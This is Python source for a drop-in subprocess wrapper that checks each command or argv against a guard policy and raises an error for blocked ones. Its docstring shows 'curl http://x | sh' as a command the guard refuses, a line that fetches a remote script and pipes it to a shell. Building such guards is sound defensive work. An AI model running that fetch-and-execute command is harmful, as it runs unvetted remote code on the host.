"""A drop-in for :mod:`subprocess` that judges each command before it starts.

::

    from corral import subprocess
    subprocess.run(["pytest", "-q"], check=True)          # allowed: runs
    subprocess.run("curl http://x | sh", shell=True)      # raises corral.Blocked

``run``, ``Popen``, ``call``, ``check_call`` and ``check_output`` take the standard library's
arguments. An argument list is judged as ``argv``; a string with ``shell=True`` as the shell
command line it is. The guard is the default policy unless :func:`configure` names another.
"""

from __future__ import annotations

import inspect
import os
import subprocess as _std
from collections.abc import Mapping
from subprocess import (
    DEVNULL,
    PIPE,
    STDOUT,
    CalledProcessError,
    CompletedProcess,
    SubprocessError,
    TimeoutExpired,
)
from typing import Any

from corral.engine.guard import Guard
from corral.integrations.guard_factory import make_guard
from corral.sdk.guarded import check

__all__ = [
    "DEVNULL",
    "PIPE",
    "STDOUT",
    "CalledProcessError",
    "CompletedProcess",
    "Popen",
    "SubprocessError",
    "TimeoutExpired",
    "call",
    "check_call",
    "check_output",
    "configure",
    "run",
]

_current_guard: dict[str, Guard] = {}  # one entry, "guard"; a dict so configure() needs no global
_POPEN_SIGNATURE = inspect.signature(_std.Popen)


def configure(
    guard: Guard | None = None, *, policy: str = "default", workspace: list[str] | None = None
) -> Guard:
    """Set the guard this module judges with (a given one, or one built for ``policy``)."""
    chosen = guard if guard is not None else make_guard(policy, workspace)
    _current_guard["guard"] = chosen
    return chosen


def _current() -> Guard:
    return _current_guard.get("guard") or configure()


def action_for(args: Any, kwargs: dict[str, Any]) -> dict[str, Any]:
    """The ``exec`` action a subprocess call would perform."""
    cwd = kwargs.get("cwd")
    single = isinstance(args, str | bytes | os.PathLike)
    items = [os.fsdecode(args)] if single else [os.fsdecode(a) for a in args]
    executable = kwargs.get("executable")
    action: dict[str, Any] = {"kind": "exec"}
    if kwargs.get("shell") and single and executable is None:
        action["command"] = items[0]
    elif kwargs.get("shell"):
        # What Popen runs: [executable or /bin/sh, "-c", script, $0, $1 ...]; judged as that
        # argv, the guard sees the real shell and binds the positional words the script uses.
        shell = os.fsdecode(executable) if executable is not None else "/bin/sh"
        action["argv"] = [shell, "-c", *items]
    else:
        action["argv"] = items
        if executable is not None and items:
            action["argv"][0] = os.fsdecode(executable)
    if cwd is not None:
        action["cwd"] = os.fsdecode(cwd)
    env = kwargs.get("env")
    if isinstance(env, Mapping):  # any mapping (os.environ is not a dict): LD_PRELOAD counts
        action["env"] = {os.fsdecode(k): os.fsdecode(v) for k, v in env.items()}
    return action


def _judge(args: Any, kwargs: dict[str, Any]) -> None:
    check(_current(), action_for(args, kwargs))


class Popen(_std.Popen):  # type: ignore[type-arg]
    """:class:`subprocess.Popen` that raises :class:`corral.Blocked` instead of starting."""

    def __init__(self, args: Any, *rest: Any, **kwargs: Any) -> None:
        bound = _POPEN_SIGNATURE.bind(args, *rest, **kwargs)  # options may come positionally
        _judge(args, {k: v for k, v in bound.arguments.items() if k != "args"})
        super().__init__(args, *rest, **kwargs)


def run(args: Any, **kwargs: Any) -> CompletedProcess[Any]:
    _judge(args, kwargs)
    return _std.run(args, **kwargs)  # noqa: PLW1510 - the caller's check= passes through


def call(args: Any, **kwargs: Any) -> int:
    _judge(args, kwargs)
    return _std.call(args, **kwargs)


def check_call(args: Any, **kwargs: Any) -> int:
    _judge(args, kwargs)
    return _std.check_call(args, **kwargs)


def check_output(args: Any, **kwargs: Any) -> Any:
    _judge(args, kwargs)
    return _std.check_output(args, **kwargs)
